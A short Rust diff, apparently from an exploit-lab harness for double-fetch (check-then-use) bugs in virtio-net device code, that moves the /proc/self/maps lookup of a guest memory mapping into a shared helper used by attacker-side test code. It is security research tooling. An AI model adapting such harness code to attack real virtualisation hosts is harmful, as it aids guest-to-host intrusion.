@@ -2,7 +2,6 @@
 //!
 //! (CVE-2024-11614 was a header read twice besides: checked, and then used as it was by then.)
 
-use rustix::fs::fstat;
 use straightline_lab::Guest;
 use straightline_packet::Segment;
 use straightline_packet::double::Double;
@@ -15,6 +14,7 @@ use straightline_virtio::ring::Descriptor;
 use crate::attacker::Layout;
 use crate::common::packets::{Kind, NEEDS_CSUM, check, partial, segmented};
 use crate::common::{frame, mac, noise, send, take};
+use crate::cve_2026_86567::mapped_at;
 use crate::scene::{Ring, Scene, fine};
 
 const FEATURES: u64 = VIRTIO_NET_F_CSUM | VIRTIO_NET_F_HOST_TSO4 | VIRTIO_NET_F_HOST_TSO6 | VIRTIO_NET_F_HOST_USO;
@@ -23,10 +23,7 @@ const FEATURES: u64 = VIRTIO_NET_F_CSUM | VIRTIO_NET_F_HOST_TSO4 | VIRTIO_NET_F_
 pub(crate) fn double(guest: &Guest, addr: u64, len: u32) -> Double {
     let region = &guest.memory().regions()[0];
     let own = guest.memory().segment(region.guest_addr(), 1, &mut 0).expect("its own").address();
-    let inode = fstat(guest.file()).expect("its file").st_ino.to_string();
-    let maps = std::fs::read_to_string("/proc/self/maps").expect("our mappings");
-    let starts = maps.lines().filter(|line| line.split_whitespace().nth(4) == Some(&inode));
-    let starts = starts.filter_map(|line| usize::from_str_radix(line.split('-').next()?, 16).ok());
+    let starts = mapped_at(guest.file()).into_iter();
     let [start] = starts.filter(|&start| start != own).collect::<Vec<_>>()[..] else {
         panic!("mapped once by the port")
     };
